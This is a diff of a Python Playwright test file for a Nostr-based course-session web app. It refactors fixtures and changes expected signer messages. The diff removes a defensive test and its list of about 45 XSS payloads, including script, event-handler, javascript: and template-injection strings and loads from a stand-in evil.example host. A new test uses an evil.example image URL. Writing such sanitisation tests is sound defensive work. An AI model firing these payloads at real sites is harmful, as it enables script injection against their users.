@@ -1,30 +1,26 @@
-"""The page in a real browser, with real keys behind NIP-07, against a daemon that runs as a process."""
+"""The page of the installed wheel in a real browser, with real keys behind NIP-07, against a daemon as a process."""
 
 from __future__ import annotations
 
 import json
-import os
 import re
 import time
 from collections.abc import AsyncIterator
-from contextlib import asynccontextmanager
 from datetime import UTC, datetime, timedelta
 from typing import Any, Final
 
-import httpx
-import msgspec
 import pytest
+import pytest_asyncio
+from websockets.asyncio.client import connect
 
-from podium_daemon.demo.stage import MEETING_URL, Plan, Stage, raised
-from podium_protocol.events import UnsignedEvent
-from podium_protocol.keys import SecretKey
-from podium_protocol.nips import nip98
+from podium_daemon.demo.stage import MEETING_URL
 from podium_protocol.nips.nip19 import encode_npub
-from tests.support.browsers import Visitor, chromium, visit
+from tests.support.browsers import Visitor
+from tests.support.page import Here, page_house, press, profile_of, seen
 from tests.support.relays import new_key
 from tests.support.until import until
 
-pytestmark = pytest.mark.real_peer
+pytestmark = [pytest.mark.real_peer, pytest.mark.asyncio(loop_scope="module")]
 
 HOOK: Final = [
     "lesson",
@@ -46,114 +42,19 @@ HOOK: Final = [
     "recordingUrl",
 ]
 
-PAYLOADS: Final = (
-    "<script>pwned()</script>",
-    "<script src=https://evil.example/x.js></script>",
-    "<img src=x onerror=pwned()>",
-    "<img src=https://evil.example/pixel.png>",
-    "<svg onload=pwned()>",
-    "<svg><script>pwned()</script></svg>",
-    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
-    "<iframe src=javascript:pwned()></iframe>",
-    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
-    "<body onload=pwned()>",
-    "<input autofocus onfocus=pwned()>",
-    "<select autofocus onfocus=pwned()>",
-    "<textarea autofocus onfocus=pwned()>",
-    "<details open ontoggle=pwned()>",
-    "<video src=x onerror=pwned()></video>",
-    "<video poster=https://evil.example/p.png></video>",
-    "<audio src=x onerror=pwned()>",
-    "<object data=javascript:pwned()></object>",
-    "<embed src=https://evil.example/x.swf>",
-    "<a href=javascript:pwned()>click</a>",
-    "<a href='data:text/html,<script>pwned()</script>'>click</a>",
-    "<form action=https://evil.example><button>send</button></form>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href=https://evil.example/>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<style>*{background:url(https://evil.example/x)}</style>",
-    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=pwned()>",
-    "<template><script>pwned()</script></template>",
-    "<marquee onstart=pwned()>",
-    "<podium-session reference=x></podium-session>",
-    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
-    "</title><script>pwned()</script>",
-    "</textarea><script>pwned()</script>",
-    "--><script>pwned()</script>",
-    "]]><script>pwned()</script>",
-    "'\"><script>pwned()</script>",
-    '" onmouseover=pwned() x="',
-    "${pwned()} {{pwned()}} <%= pwned() %>",
-    "{{constructor.constructor('pwned()')()}}",
-    "javascript:pwned()//https://example.org",
-    "&lt;script&gt;pwned()&lt;/script&gt;",
-    "&#60;img src=x onerror=pwned()&#62;",
-    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
-    "＜script＞pwned()＜/script＞",
-)
 
-
-class Here(msgspec.Struct, frozen=True):
-    """A daemon, a browser, and the instructor's key."""
-
-    stage: Stage
-    browser: Any
-    instructor: SecretKey
-
-    async def person(self, secret: SecretKey | None = None, **options: Any) -> Visitor:
-        """Somebody's browser."""
-        return await visit(self.browser, secret, **options)
-
-    async def scheduled(self, *, starts_in: int = 300, **fields: object) -> str:
-        """A session that the instructor published over the interface; the URL of its page."""
-        wish = {"title": "Know your rights", "scheduledAt": int(time.time()) + starts_in, "duration": 60} | fields
-        draft = await self._post("/api/sessions/draft", wish)
-        events = [self._signed(msgspec.convert(template, UnsignedEvent)) for template in draft["events"]]
-        await self._post("/api/events", {"events": events})
-        return f"{self.stage.base_url}/s/{(await self.shown(draft['lessonId']))['naddr']}"
-
-    async def shown(self, reference: str) -> Any:
-        """A session as the interface shows it to anybody."""
-        async with httpx.AsyncClient(trust_env=False) as client:
-            return (await client.get(f"{self.stage.base_url}/api/sessions/{reference}")).raise_for_status().json()
-
-    async def _post(self, path: str, body: object) -> Any:
-        url, raw = f"{self.stage.base_url}{path}", json.dumps(body).encode()
-        nonce = ("nonce", os.urandom(8).hex())
-        login = nip98.write(self.instructor.pubkey, url, "POST", raw, int(time.time()), (nonce,))
-        header = nip98.write_header(self.instructor.sign(login, os.urandom(32)))
-        headers = {"Authorization": header, "Content-Type": "application/json"}
-        async with httpx.AsyncClient(trust_env=False) as client:
-            return (await client.post(url, content=raw, headers=headers)).raise_for_status().json()
-
-    def _signed(self, event: UnsignedEvent) -> object:
-        return json.loads(self.instructor.sign(event, os.urandom(32)).to_json())
-
-
-@asynccontextmanager
-async def _here() -> AsyncIterator[Here]:
-    instructor = new_key()
-    plan = Plan(start_in=600, lasts=60, day=500, hour=400, quarter=300)
-    async with chromium() as browser, raised(plan, instructor=instructor, service=new_key(), relay=None) as stage:
-        yield Here(stage, browser, instructor)
-
-
-@pytest.fixture
-async def here() -> AsyncIterator[Here]:
-    async with _here() as found:
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def house() -> AsyncIterator[Here]:
+    """One daemon and one browser for all: each test has people and sessions of its own."""
+    async with page_house() as found:
         yield found
 
 
-async def seen(page: Any, text: str | re.Pattern[str]) -> None:
-    """Wait until a person sees this text."""
-    await page.get_by_text(text).first.wait_for(state="visible")
-
-
-async def press(page: Any, name: str) -> None:
-    """Press the button of this name."""
-    await page.get_by_role("button", name=name, exact=True).click()
+@pytest_asyncio.fixture(loop_scope="module")
+async def here(house: Here) -> AsyncIterator[Here]:
+    """The house, with nobody's pages left open afterwards."""
+    yield house
+    await house.close_pages()
 
 
 async def focused(page: Any) -> str:
@@ -365,7 +266,8 @@ async def test_a_browser_without_a_signer(here: Here) -> None:
     page = await visitor.open(await here.scheduled())
     await seen(page, "To answer or join you need a Nostr signer")
     await press(page, "Tentative")
-    await seen(page, "There is no Nostr extension in this browser.")
+    await press(page, "Cancel")  # the offer of a remote signer
+    await seen(page, "There is no Nostr extension in this browser, and no remote signer is connected.")
     assert visitor.errors == []
 
 
@@ -382,41 +284,21 @@ async def test_a_signer_that_refuses_or_cheats(here: Here) -> None:
         "() => { window.nostr.signEvent = async (event) => ({...event, content: 'x', id: '', sig: ''}); }"
     )
     await press(page, "Confirm")
-    await seen(page, "The extension signed something else than it was asked for.")
+    await seen(page, "The signer signed something else than it was asked for.")
 
 
-@pytest.mark.timeout(240)
-async def test_hostile_texts_stay_text(here: Here) -> None:
-    """No payload in title, summary or description runs, loads anything or makes an element, on either page."""
-    visitor = await here.person(here.instructor)
-    await visitor.context.add_init_script("window.pwned = () => { window.isPwned = true; };")
-    urls = [
-        await here.scheduled(
-            starts_in=7200, title=payload, summary=payload, description=payload, identifier=f"x{index}"
-        )
-        for index, payload in enumerate(PAYLOADS)
-    ]
-    page = await visitor.open(here.stage.base_url)
-    await page.locator("podium-index li").nth(len(PAYLOADS) - 1).wait_for()
-    await _assert_unharmed(page)
-    for url, payload in zip(urls, PAYLOADS, strict=True):
-        await page.goto(url)
-        await page.locator("article").wait_for(state="visible")
-        assert await page.locator("h1").text_content() == payload
-        assert await page.locator("p.lead").text_content() == payload
-        assert await page.locator("div.text").text_content() == payload
-        assert await page.title() == f"{payload} · Podium"
-        await _assert_unharmed(page)
-    assert visitor.dialogs == []
-    assert visitor.errors == []
-    assert visitor.foreign(here.stage.base_url) == []
-
-
-async def _assert_unharmed(page: Any) -> None:
-    elements = "main :is(script, img, svg, iframe, object, embed, video, audio, style, link, meta, base, template)"
-    assert await page.evaluate("window.isPwned") is None
-    assert await page.locator(elements).count() == 0
-    assert await page.locator("main a:not([href^='/']):visible").count() == 0
+async def test_an_instructors_name_comes_from_the_relays(here: Here) -> None:
+    """A profile that reaches the relay while the page is open names the instructor on it; a newer one renames them."""
+    page = await (await here.person()).open(await here.scheduled())
+    await seen(page, "Will you come?")
+    assert await page.locator("p.by .name").count() == 0
+    for age, name in ((10, "Grace"), (0, "Prof. Grace")):
+        profile = profile_of(here.instructor, age=age, name=name, picture="https://evil.example/pixel.png")
+        async with connect(here.stage.relay_url, proxy=None) as relay:
+            await relay.send(f'["EVENT",{profile.to_json().decode()}]')
+            answer = json.loads(await relay.recv())
+        assert answer[:3] == ["OK", profile.id, True]
+        await page.locator("p.by .name").get_by_text(name, exact=True).wait_for()
 
 
 async def test_the_hook_has_the_models_fields(here: Here) -> None:
